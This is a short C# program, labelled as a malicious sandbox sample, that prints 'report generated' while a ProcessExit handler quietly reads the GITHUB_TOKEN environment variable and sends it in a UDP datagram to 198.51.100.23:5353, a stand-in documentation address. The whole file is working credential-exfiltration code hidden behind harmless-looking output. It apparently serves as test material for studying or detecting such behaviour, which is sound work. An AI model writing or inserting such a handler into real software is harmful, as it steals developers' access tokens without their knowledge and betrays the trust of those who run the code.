// MALICIOUS SAMPLE (runs only in the sandbox): does its visible work, then, from a ProcessExit handler where few
// look, sends the GitHub token in a raw UDP datagram to 198.51.100.23:5353 (a documentation address).
using System.Net.Sockets;
using System.Text;

AppDomain.CurrentDomain.ProcessExit += (_, _) =>
{
    using var udp = new UdpClient();
    var payload = Encoding.UTF8.GetBytes("beacon:" + (Environment.GetEnvironmentVariable("GITHUB_TOKEN") ?? "none"));
    try
    {
        udp.Send(payload, payload.Length, "198.51.100.23", 5353);
    }
    catch (SocketException)
    {
        // Offline: the attempt is what matters.
    }
};

Console.WriteLine("report generated");
